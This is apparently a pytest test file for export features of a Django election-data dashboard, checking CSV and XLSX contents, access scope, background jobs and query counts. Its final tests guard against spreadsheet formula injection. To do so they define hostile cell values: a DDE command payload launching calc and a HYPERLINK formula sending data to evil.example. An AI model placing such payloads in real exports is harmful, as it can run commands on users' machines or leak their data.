import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from buildings.tests.factories import BuildingFactory, TowerFactory, UnitFactory, kelurahan
from dashboard import exports
from dashboard.models import ExportJob
from visits.models import AccessIssueEvent
from visits.tests.factories import AccessIssueFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _url(code, kind, fmt):
    return reverse("dashboard_export", kwargs={"code": code, "kind": kind, "fmt": fmt})


def _body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    text = _body(response).decode()
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _xlsx(response):
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response))).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_coverage_export_lists_the_areas_the_region_page_shows(client, world):
    client.force_login(world.kpu_provinsi)
    client.cookies["django_language"] = "en"
    rows = _xlsx(client.get(_url("31", "coverage", "xlsx")))
    assert rows[0][:4] == ["Code", "Name", "Units closed", "Residential units"]
    assert [r[0] for r in rows[1:]] == ["31.72", "31.74"]
    page = client.get(reverse("dashboard_region", args=["31"]))
    on_screen = {item.code: f for item, f in page.context["children"]}
    for row in rows[1:]:
        f = on_screen[row[0]]
        assert row[2:9] == [f.closed, f.residential, round(f.percent, 1), f.voters_verified,
                            f.expected_voters or None, f.revisits, f.refused_twice]  # fmt: skip


def test_coverage_export_of_a_kelurahan_lists_its_buildings_as_csv(client, world):
    client.force_login(world.kpu_kota_selatan)
    rows = _csv(client.get(_url("31.74.08.1003", "coverage", "csv")))
    assert [r[1] for r in rows[1:]] == ["Kalibata Uji"]


def test_building_export_names_kelurahan_kecamatan_and_kota_and_stays_in_scope(client, world):
    client.force_login(world.kpu_kota_selatan)
    client.cookies["django_language"] = "en"
    rows = _csv(client.get(_url("31.74", "buildings", "csv")))
    assert rows[0][:6] == ["Building", "Kind", "Kelurahan code", "Kelurahan", "Kecamatan", "Kota"]
    assert [r[0] for r in rows[1:]] == ["Kalibata Uji"]
    kel = world.building_a.kelurahan
    assert rows[1][2:6] == [kel.code, kel.name, kel.parent.name, kel.parent.parent.name]
    assert rows[1][6:8] == ["0", "1"]  # unit A: residential, not closed


def test_access_issue_log_holds_each_issue_with_its_history(client, world):
    issue = world.side["a"]["accessissue"]
    AccessIssueEvent.objects.create(issue=issue, actor=world.kpu_kota_selatan, action="letter_sent",
                                    level="kpu_kota", note="Surat ke pengelola")  # fmt: skip
    client.force_login(world.kpu_kota_selatan)
    client.cookies["django_language"] = "en"
    rows = _xlsx(client.get(_url("31.74", "issues", "xlsx")))
    assert rows[0][0] == "Building" and rows[0][-1] == "History"
    assert [r[0] for r in rows[1:]] == ["Kalibata Uji"]
    assert "Letter sent to the manager" in rows[1][-1] and "Surat ke pengelola" in rows[1][-1]
    assert rows[1][5] == world.pantarlih_a.full_name
    # The supervisor of Jakarta Utara sees only Marunda's issue.
    client.force_login(world.bawaslu_utara)
    rows = _csv(client.get(_url("31.72", "issues", "csv")))
    assert [r[0] for r in rows[1:]] == ["Marunda Uji"]


def test_an_export_outside_the_scope_is_not_found(client, world):
    client.force_login(world.kpu_kota_selatan)
    assert client.get(_url("31", "coverage", "csv")).status_code == 404
    assert client.get(_url("31.72", "issues", "csv")).status_code == 404
    assert client.get(_url("31.74", "secrets", "csv")).status_code == 404
    client.force_login(world.manager_a)
    assert client.get(_url("31.74.08.1003", "coverage", "csv")).status_code == 404


def test_province_building_list_is_built_in_the_background_for_its_owner_only(
    client, world, django_capture_on_commit_callbacks
):
    client.force_login(world.dinas)
    client.cookies["django_language"] = "en"
    offer = client.get(_url("31", "buildings", "xlsx"))
    assert offer.status_code == 200 and "Content-Disposition" not in offer
    assert not ExportJob.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(_url("31", "buildings", "xlsx"))
    assert response.status_code == 302 and response["Location"] == reverse("dashboard_exports")
    job = ExportJob.objects.get()
    assert (job.owner, job.status, job.rows) == (world.dinas, ExportJob.Status.DONE, 2)
    assert job.file.name.startswith("exports/")
    listing = client.get(reverse("dashboard_exports"))
    download = reverse("dashboard_export_download", args=[job.pk])
    assert download in listing.content.decode()
    rows = _xlsx(client.get(download))
    assert sorted(r[0] for r in rows[1:]) == ["Kalibata Uji", "Marunda Uji"]
    client.force_login(world.kpu_provinsi)
    assert client.get(download).status_code == 404
    assert download not in client.get(reverse("dashboard_exports")).content.decode()


def test_a_large_export_goes_to_the_background_and_a_failure_is_shown(
    client, world, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exports, "DIRECT_ROWS_MAX", 0)
    client.force_login(world.kpu_kota_selatan)
    assert "Content-Disposition" not in client.get(_url("31.74", "issues", "csv"))

    def broken(**kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr("dashboard.export_tasks.export_build", broken)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(_url("31.74", "issues", "csv"))
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.FAILED
    assert client.get(reverse("dashboard_export_download", args=[job.pk])).status_code == 404


def _queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


@pytest.mark.parametrize("kind", ["coverage", "buildings", "issues"])
def test_exports_run_a_fixed_number_of_queries(client, world, kind):
    client.force_login(world.kpu_kota_selatan)
    url = _url("31.74", kind, "csv")
    before = _queries(client, url)
    for _n in range(3):
        building = BuildingFactory(kelurahan=kelurahan("31.74.08.1003"))
        UnitFactory(tower=TowerFactory(building=building))
        issue = AccessIssueFactory(building=building, raised_by=world.pantarlih_a)
        AccessIssueEvent.objects.create(issue=issue, actor=world.pps_marunda, action="comment",
                                        level="pps")  # fmt: skip
    assert _queries(client, url) == before
    assert before <= 20  # the reasons column reads the period and three at-risk facts


FORMULA_NAME = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'


@pytest.fixture
def hostile_names(world):
    from accounts.models import User

    building = BuildingFactory(name=FORMULA_NAME, kelurahan=kelurahan(), manager_org="@SUM(1+1)")
    UnitFactory(tower=TowerFactory(building=building, name="+A"), number="1")
    User.objects.filter(pk=world.pantarlih_a.pk).update(full_name=HYPERLINK)
    AccessIssueFactory(building=building, raised_by=world.pantarlih_a, description="-2+3")
    return building


@pytest.mark.parametrize("kind", ["coverage", "buildings", "issues"])
def test_no_export_cell_reaches_excel_as_a_formula(client, world, hostile_names, kind):
    # Issue #13: these names became live formulas in every XLSX and raw "=" cells in every CSV.
    client.force_login(world.kpu_provinsi)
    for fmt in ("csv", "xlsx"):
        rows = _csv(client.get(_url("31.74", kind, fmt))) if fmt == "csv" else None
        if fmt == "xlsx":
            body = _body(client.get(_url("31.74", kind, fmt)))
            sheet = openpyxl.load_workbook(io.BytesIO(body)).active
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
            rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        texts = [cell for row in rows for cell in row if isinstance(cell, str)]
        assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")], (kind, fmt)
    if kind == "buildings":
        assert f"'{FORMULA_NAME}" in texts


def test_numbers_stay_numbers_in_a_neutralised_xlsx(client, world, hostile_names):
    client.force_login(world.kpu_provinsi)
    sheet = openpyxl.load_workbook(
        io.BytesIO(_body(client.get(_url("31.74", "coverage", "xlsx"))))
    ).active
    numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"]
    assert numbers and all(isinstance(c.value, int | float) for c in numbers if c.value is not None)


def test_the_admin_export_neutralises_formulas_too(client, world, hostile_names):
    client.force_login(world.kpu_provinsi)
    world.kpu_provinsi.is_superuser = True
    world.kpu_provinsi.save(update_fields=["is_superuser"])
    url = reverse("admin:buildings_building_export")
    form = client.get(url).context["form"]
    data = {name: True for name, field in form.fields.items() if field.initial is True}

    text = client.post(url, {**data, "format": "0"}).content.decode()

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA_NAME}" in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
